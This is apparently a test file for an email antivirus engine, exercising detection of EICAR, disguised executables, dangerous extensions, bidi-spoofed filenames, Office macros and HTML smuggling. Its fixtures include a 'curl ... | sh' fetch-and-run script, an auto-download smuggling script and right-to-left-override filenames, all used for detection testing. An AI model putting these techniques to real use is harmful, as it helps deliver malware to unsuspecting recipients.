import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { createRequire } from 'node:module';
import { describe, it } from 'node:test';

import { createEmbeddedAntivirus } from '../../../src/scanning/antivirus/index.js';
import { EICAR_TEST_STRING } from '../../../src/scanning/antivirus/eicar.js';
import { expandArchive } from '../../../src/scanning/archive.js';
import { createDeadline } from '../../../src/scanning/deadline.js';
import type { ContentPart, Deadline, Finding, TextBody } from '../../../src/scanning/types.js';
import { buildZip } from './zip-builder.js';
import { createBudget, EICAR, elfStub, makePart, makeView, peStub } from './test-support.js';

interface CfbContainer {
  FullPaths: string[];
}
interface CfbModule {
  utils: {
    cfb_new(): CfbContainer;
    cfb_add(container: CfbContainer, path: string, content: Buffer): void;
  };
  write(container: CfbContainer, options: { type: 'buffer' }): Uint8Array;
}
const CFB = createRequire(import.meta.url)('cfb') as CfbModule;

const engine = createEmbeddedAntivirus({});

async function scanParts(parts: ContentPart[], bodies: TextBody[] = []): Promise<Finding[]> {
  const result = await engine.scan(makeView(parts, bodies), createDeadline(10_000));
  return result.findings;
}

function pick(findings: readonly Finding[], signature: string): Finding[] {
  return findings.filter((finding) => finding.signature === signature);
}

function oleFile(streams: Record<string, string>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [path, content] of Object.entries(streams)) {
    CFB.utils.cfb_add(container, path, Buffer.from(content));
  }
  return Buffer.from(CFB.write(container, { type: 'buffer' }));
}

const BASE64_PAYLOAD = Buffer.alloc(1500, 0x5a).toString('base64');

describe('engine identity', () => {
  it('is embedded-av at the antivirus stage', () => {
    assert.equal(engine.name, 'embedded-av');
    assert.equal(engine.stage, 'antivirus');
  });

  it('returns no findings for a clean message', async () => {
    const findings = await scanParts(
      [
        makePart({ path: '1', contentType: 'text/plain', content: Buffer.from('Hello') }),
        makePart({ path: '2', filename: 'report.pdf', content: Buffer.from('%PDF-1.7 ...') }),
      ],
      [{ path: '1', type: 'plain', text: 'Hello' }],
    );
    assert.deepEqual(findings, []);
  });
});

describe('EICAR', () => {
  it('matches the test string of the source module', () => {
    assert.equal(EICAR.length, 68);
    assert.equal(EICAR_TEST_STRING, EICAR);
  });

  it('is found in an attachment', async () => {
    const findings = await scanParts([
      makePart({ filename: 'eicar.com.txt', content: Buffer.from(EICAR) }),
    ]);
    const [finding] = pick(findings, 'Eicar-Test-Signature');
    assert.equal(finding?.category, 'malware');
    assert.equal(finding?.mimePath, '2');
    assert.equal(finding?.stage, 'antivirus');
    assert.equal(finding?.engine, 'embedded-av');
  });

  it('is found inside other text', async () => {
    const content = Buffer.from(`prefix ${EICAR} suffix`);
    const findings = await scanParts([makePart({ path: '2!a/b.txt', origin: 'archive', content })]);
    assert.deepEqual(
      pick(findings, 'Eicar-Test-Signature').map((f) => f.mimePath),
      ['2!a/b.txt'],
    );
  });

  it('is reported once per body path', async () => {
    const text = `Please test ${EICAR}`;
    const body: TextBody = { path: '2/1', type: 'plain', text };
    const part = makePart({ path: '2/1', contentType: 'text/plain', content: Buffer.from(text) });
    const findings = await scanParts([part], [body, { path: '3', type: 'html', text }]);
    assert.deepEqual(
      pick(findings, 'Eicar-Test-Signature').map((f) => f.mimePath),
      ['2/1', '3'],
    );
  });

  it('is not matched when incomplete', async () => {
    const findings = await scanParts([makePart({ content: Buffer.from(EICAR.slice(0, 60)) })]);
    assert.deepEqual(findings, []);
  });
});

describe('hash blocklist', () => {
  const payload = Buffer.from('known bad payload');
  const digest = createHash('sha256').update(payload).digest('hex');

  it('reports a blocklisted digest', async () => {
    const blocking = createEmbeddedAntivirus({ hashBlocklist: new Set([digest]) });
    const result = await blocking.scan(
      makeView([makePart({ content: payload })]),
      createDeadline(1000),
    );
    assert.deepEqual(
      result.findings.map((f) => [f.signature, f.category, f.mimePath]),
      [['Hash.Blocklist', 'malware', '2']],
    );
  });

  it('ignores other content and empty parts', async () => {
    const blocking = createEmbeddedAntivirus({
      hashBlocklist: new Set([digest, createHash('sha256').update('').digest('hex')]),
    });
    const parts = [makePart({ content: Buffer.from('other') }), makePart({ path: '3' })];
    const result = await blocking.scan(makeView(parts), createDeadline(1000));
    assert.deepEqual(result.findings, []);
  });
});

describe('true type', () => {
  it('reports a PE behind a .pdf name as disguised', async () => {
    const findings = await scanParts([makePart({ filename: 'invoice.pdf', content: peStub() })]);
    const [finding] = pick(findings, 'Disguised.Executable');
    assert.equal(finding?.category, 'malware');
    assert.equal(finding?.mimePath, '2');
  });

  for (const name of ['photo.JPG', 'notes.txt', 'contract.docx']) {
    it(`reports an ELF behind ${name}`, async () => {
      const findings = await scanParts([makePart({ filename: name, content: elfStub() })]);
      assert.equal(pick(findings, 'Disguised.Executable').length, 1);
    });
  }

  it('reports a shebang script behind a .pdf name', async () => {
    const content = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
    const findings = await scanParts([makePart({ filename: 'scan.pdf', content })]);
    assert.equal(pick(findings, 'Disguised.Executable').length, 1);
  });

  it('scans synchronously when no part needs file-type', () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
    const parts = [
      makePart({ path: '1', contentType: 'text/plain', content: Buffer.from('Hello') }),
      makePart({ filename: 'scan.pdf', content: script }),
    ];
    const result = engine.scan(makeView(parts, []), createDeadline(10_000));
    assert.ok(!(result instanceof Promise));
    assert.equal(pick(result.findings, 'Disguised.Executable').length, 1);
  });

  it('returns a promise when a part needs file-type', async () => {
    const parts = [
      makePart({ path: '1', contentType: 'text/plain', content: Buffer.from('Hello') }),
      makePart({ filename: 'invoice.pdf', content: peStub() }),
    ];
    const pending = engine.scan(makeView(parts, []), createDeadline(10_000));
    assert.ok(pending instanceof Promise);
    assert.equal(pick((await pending).findings, 'Disguised.Executable').length, 1);
  });

  it('leaves a shebang script named .txt alone', async () => {
    const content = Buffer.from('#! /usr/bin/env python3\nprint(1)\n');
    assert.deepEqual(await scanParts([makePart({ filename: 'script.txt', content })]), []);
  });

  it('reports a PE with no file name as a dangerous type', async () => {
    const findings = await scanParts([makePart({ content: peStub() })]);
    assert.deepEqual(
      findings.map((f) => [f.signature, f.category]),
      [['Policy.DangerousType', 'policy']],
    );
  });

  it('does not take a bare MZ text for an executable', async () => {
    const content = Buffer.from('MZ is how this note starts, and it is plain text.');
    assert.deepEqual(await scanParts([makePart({ filename: 'note.txt', content })]), []);
  });

  it('reports a PE named .exe once, by extension', async () => {
    const findings = await scanParts([makePart({ filename: 'setup.exe', content: peStub() })]);
    assert.deepEqual(
      findings.map((f) => f.signature),
      ['Policy.DangerousType'],
    );
  });
});

describe('dangerous file types', () => {
  const dangerous = [
    'a.exe',
    'b.JS',
    'c.vbs',
    'd.iso',
    'e.img',
    'f.lnk',
    'g.one',
    'h.hta',
    'i.msi',
    'j.ps1',
  ];
  for (const name of dangerous) {
    it(`reports ${name}`, async () => {
      const findings = await scanParts([makePart({ filename: name, content: Buffer.from('x') })]);
      const [finding] = pick(findings, 'Policy.DangerousType');
      assert.equal(finding?.category, 'policy');
    });
  }

  for (const name of ['payload.exe.', 'payload.exe . .', 'payload.scr  ']) {
    it(`reports ${JSON.stringify(name)} after trimming dots and spaces`, async () => {
      const findings = await scanParts([makePart({ filename: name })]);
      assert.equal(pick(findings, 'Policy.DangerousType').length, 1);
    });
  }

  it('checks the raw file name too', async () => {
    const part = makePart({ filename: 'harmless.txt', rawFilename: 'harmless.bat' });
    assert.equal(pick(await scanParts([part]), 'Policy.DangerousType').length, 1);
  });

  it('reads a name cut at a NUL as Windows does', async () => {
    const part = makePart({ filename: 'tool.exe\0.txt' });
    assert.equal(pick(await scanParts([part]), 'Policy.DangerousType').length, 1);
  });

  it('reports an archive member', async () => {
    const part = makePart({ path: '2!tools/run.cmd', filename: 'run.cmd', origin: 'archive' });
    const [finding] = pick(await scanParts([part]), 'Policy.DangerousType');
    assert.equal(finding?.mimePath, '2!tools/run.cmd');
  });

  it('leaves ordinary documents alone', async () => {
    const names = ['report.pdf', 'budget.xlsx', 'photo.jpeg', 'archive.tar.gz', 'v1.2.3 notes.txt'];
    const parts = names.map((filename, i) =>
      makePart({ path: `${i + 2}`, filename, content: Buffer.from('x') }),
    );
    assert.deepEqual(await scanParts(parts), []);
  });
});

describe('disguised file names', () => {
  const cases: Array<[string, string]> = [
    ['double extension', 'invoice.pdf.exe'],
    ['double extension in upper case', 'SCAN.JPG.SCR'],
    ['padded extension', `invoice${' '.repeat(40)}.exe`],
    ['padded bait extension', `invoice.pdf${'\u00a0'.repeat(30)}.zip`],
    ['right-to-left override', 'invoice\u202efdp.exe'],
    ['left-to-right override', 'photo\u202dgpj.scr'],
    ['isolate control', 'report\u2066.pdf'],
    ['right-to-left mark', 'doc\u200f.txt'],
  ];
  for (const [label, name] of cases) {
    it(`reports a ${label}`, async () => {
      const [finding] = pick(await scanParts([makePart({ filename: name })]), 'Disguised.Filename');
      assert.equal(finding?.category, 'malware');
      assert.equal(finding?.mimePath, '2');
    });
  }

  it('reports a bidi control in the raw name only', async () => {
    const part = makePart({ filename: 'plain.txt', rawFilename: 'plain\u202etxt.exe' });
    assert.equal(pick(await scanParts([part]), 'Disguised.Filename').length, 1);
  });

  for (const name of ['photo.exe   .jpg', 'report.final.pdf', 'a  b.pdf', 'setup.x64.exe']) {
    it(`does not report ${JSON.stringify(name)} as disguised`, async () => {
      assert.deepEqual(
        pick(await scanParts([makePart({ filename: name })]), 'Disguised.Filename'),
        [],
      );
    });
  }
});

describe('Office macros', () => {
  it('reports a macro-enabled extension', async () => {
    const findings = await scanParts([makePart({ filename: 'Budget.XLSM' })]);
    assert.deepEqual(
      findings.map((f) => [f.signature, f.category, f.mimePath]),
      [['Office.Macro', 'policy', '2']],
    );
  });

  it('reports vbaProject.bin once, at the document', async () => {
    const docm = buildZip([
      {
        name: '[Content_Types].xml',
        content: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      },
      { name: 'word/document.xml', content: '<w:document/>' },
      {
        name: 'word/vbaProject.bin',
        content: oleFile({ '/VBA/_VBA_PROJECT': 'x', '/VBA/dir': 'y' }),
      },
    ]);
    const document = makePart({ filename: 'invoice.docm', content: docm });
    const members = await expandArchive(document, createBudget(), 1);
    const findings = await scanParts([document, ...members]);
    assert.deepEqual(
      findings.map((f) => [f.signature, f.mimePath]),
      [['Office.Macro', '2']],
    );
  });

  it('finds a VBA project in a renamed package', async () => {
    const docx = buildZip([
      { name: 'word/document.xml', content: '<w:document/>' },
      { name: 'word/vbaProject.bin', content: 'not ole' },
    ]);
    const inner = buildZip([{ name: 'renamed.docx', content: docx }]);
    const outer = makePart({ filename: 'files.zip', content: inner });
    const members = await expandArchive(outer, createBudget(), 1);
    const findings = await scanParts(members);
    assert.deepEqual(
      findings.map((f) => [f.signature, f.mimePath]),
      [['Office.Macro', '2!renamed.docx']],
    );
  });

  it('finds vbaProject.bin in a package that was not expanded', async () => {
    const docx = buildZip([{ name: 'xl/vbaProject.bin', content: 'x' }]);
    const findings = await scanParts([makePart({ filename: 'book.xlsx', content: docx })]);
    assert.deepEqual(
      findings.map((f) => f.signature),
      ['Office.Macro'],
    );
  });

  it('reports a Word 97-2003 document with a Macros storage', async () => {
    const doc = oleFile({
      '/WordDocument': 'text',
      '/Macros/VBA/_VBA_PROJECT': 'vba',
      '/Macros/VBA/dir': 'd',
    });
    const findings = await scanParts([makePart({ filename: 'old.doc', content: doc })]);
    assert.deepEqual(
      findings.map((f) => [f.signature, f.mimePath]),
      [['Office.Macro', '2']],
    );
  });

  it('reports an Excel 97-2003 workbook with _VBA_PROJECT_CUR', async () => {
    const xls = oleFile({ '/Workbook': 'cells', '/_VBA_PROJECT_CUR/VBA/dir': 'd' });
    const findings = await scanParts([makePart({ filename: 'old.xls', content: xls })]);
    assert.deepEqual(
      findings.map((f) => f.signature),
      ['Office.Macro'],
    );
  });

  it('leaves an OLE document without VBA alone', async () => {
    const doc = oleFile({
      '/WordDocument': 'Macros are discussed in this text',
      '/SummaryInformation': 's',
    });
    assert.deepEqual(await scanParts([makePart({ filename: 'plain.doc', content: doc })]), []);
  });

  it('leaves a plain docx alone', async () => {
    const docx = buildZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: '<w:document/>' },
    ]);
    const document = makePart({ filename: 'plain.docx', content: docx });
    const members = await expandArchive(document, createBudget(), 1);
    assert.deepEqual(await scanParts([document, ...members]), []);
  });
});

describe('encrypted archives', () => {
  it('reports an archive with an encrypted member', async () => {
    const zip = buildZip([
      {
        name: 'secret.exe',
        data: Buffer.alloc(40, 9),
        method: 'store',
        flags: 1,
        declaredSize: 28,
      },
    ]);
    const part = makePart({ filename: 'secret.zip', content: zip });
    const members = await expandArchive(part, createBudget(), 1);
    const findings = await scanParts([part, ...members]);
    const [finding] = pick(findings, 'Archive.Encrypted');
    assert.equal(finding?.category, 'policy');
    assert.equal(finding?.mimePath, '2');
    assert.equal(pick(findings, 'Archive.Encrypted').length, 1);
    assert.equal(pick(findings, 'Policy.DangerousType')[0]?.mimePath, '2!secret.exe');
  });

  it('reports a lone encrypted member at its archive', async () => {
    const member = makePart({ path: '3!inner.zip!a.txt', origin: 'archive', encrypted: true });
    const findings = await scanParts([member]);
    assert.deepEqual(
      findings.map((f) => [f.signature, f.mimePath]),
      [['Archive.Encrypted', '3!inner.zip']],
    );
  });
});

describe('HTML smuggling', () => {
  const assembly = [
    '<html><body><script>',
    'var data = atob(payload);',
    'var blob = new Blob([bytes], { type: "application/octet-stream" });',
    'var link = document.createElement("a");',
    'link.href = URL.createObjectURL(blob); link.download = "invoice.iso"; link.click();',
    '</script></body></html>',
  ].join('\n');

  it('reports a script that assembles a download', async () => {
    const part = makePart({
      contentType: 'text/html',
      filename: 'invoice.html',
      content: Buffer.from(assembly),
    });
    const [finding] = pick(await scanParts([part]), 'Html.Smuggling');
    assert.equal(finding?.category, 'malware');
    assert.equal(finding?.mimePath, '2');
  });

  it('reports a script with a long base64 payload', async () => {
    const html = `<html><SCRIPT type="text/javascript">var p = "${BASE64_PAYLOAD}";</SCRIPT></html>`;
    const part = makePart({
      contentType: 'text/html',
      disposition: 'attachment',
      content: Buffer.from(html),
    });
    assert.equal(pick(await scanParts([part]), 'Html.Smuggling').length, 1);
  });

  it('reports msSaveOrOpenBlob in an SVG file', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg"><script>navigator.msSaveOrOpenBlob(b, "a.zip")</script></svg>';
    const part = makePart({
      contentType: 'image/svg+xml',
      filename: 'logo.svg',
      content: Buffer.from(svg),
    });
    assert.equal(pick(await scanParts([part]), 'Html.Smuggling').length, 1);
  });

  it('reports an unclosed script', async () => {
    const html = `<html><script>var p = "${BASE64_PAYLOAD}`;
    const part = makePart({ filename: 'page.htm', content: Buffer.from(html) });
    assert.equal(pick(await scanParts([part]), 'Html.Smuggling').length, 1);
  });

  it('leaves the HTML body of a message alone', async () => {
    const part = makePart({
      path: '1.2',
      contentType: 'text/html',
      content: Buffer.from(assembly),
    });
    assert.deepEqual(await scanParts([part], [{ path: '1.2', type: 'html', text: assembly }]), []);
  });

  it('leaves inline images with harmless scripts alone', async () => {
    const html = `<html><img src="data:image/png;base64,${BASE64_PAYLOAD}"><script>console.log(1)</script></html>`;
    const part = makePart({
      contentType: 'text/html',
      filename: 'newsletter.html',
      content: Buffer.from(html),
    });
    assert.deepEqual(await scanParts([part]), []);
  });

  it('leaves an attachment without a script alone', async () => {
    const html = `<html><p>${BASE64_PAYLOAD}</p></html>`;
    const part = makePart({
      contentType: 'text/html',
      filename: 'data.html',
      content: Buffer.from(html),
    });
    assert.deepEqual(await scanParts([part]), []);
  });

  it('scans 8 MB of unclosed tags in linear time', async () => {
    const html = '<script>'.repeat(1) + '<a <script '.repeat(800_000);
    const part = makePart({ filename: 'x.html', content: Buffer.from(html) });
    const started = performance.now();
    await scanParts([part]);
    assert.ok(performance.now() - started < 2000);
  });
});

describe('hostile content', () => {
  it('never throws on random bytes behind known magic', async () => {
    const prefixes = [
      peStub().subarray(0, 0x40),
      elfStub().subarray(0, 4),
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.from('PK\u0003\u0004'),
      Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]),
      Buffer.from('ITSF'),
      Buffer.from([0xca, 0xfe, 0xba, 0xbe]),
      Buffer.from('<script>'),
    ];
    const parts: ContentPart[] = [];
    for (const [index, prefix] of prefixes.entries()) {
      for (let round = 0; round < 50; round += 1) {
        const content = Buffer.concat([prefix, randomBytes(600 + round * 40)]);
        parts.push(makePart({ path: `${index}.${round}`, filename: 'file.pdf', content }));
      }
    }
    const findings = await scanParts(parts);
    assert.ok(findings.every((finding) => finding.engine === 'embedded-av'));
  });
});

describe('deadline', () => {
  it('reports a timeout instead of scanning past the deadline', async () => {
    const expired: Deadline = { expiresAt: 0, expired: () => true };
    const result = await engine.scan(
      makeView([makePart({ content: Buffer.from(EICAR) })]),
      expired,
    );
    assert.deepEqual(
      result.findings.map((f) => [f.signature, f.category]),
      [['limit.scan-timeout', 'unscannable']],
    );
  });
});
